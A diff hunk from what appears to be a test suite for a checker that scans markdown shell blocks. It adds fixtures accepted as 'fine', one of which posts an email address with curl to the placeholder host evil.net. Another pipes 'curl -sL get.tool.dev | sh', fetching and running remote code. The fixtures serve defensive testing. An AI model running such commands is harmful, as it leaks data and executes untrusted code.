@@ -185,6 +185,10 @@ fine(
   'plain',
   '# x\n\n```sh\ncurl https://api.example.com/v1/items\ncurl -o x.json https://evil.net/x.json\n```',
 )
+fine('plain', '# x\n\n```sh\ncurl -d \'{"mail": "a@example.com"}\' https://evil.net/v1\n```')
+fine('plain', '# x\n\n```sh\ncurl -sL get.tool.dev | sh\n```', {
+  base: { 'plain/install.md': 'Run `curl -sL get.tool.dev | sh`.\n' },
+})
 fine('plain', '# x\n\n```sh\ngit clone https://github.com/acme/docs\ncd docs\n```')
 for (const address of [
   'cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=e30=',
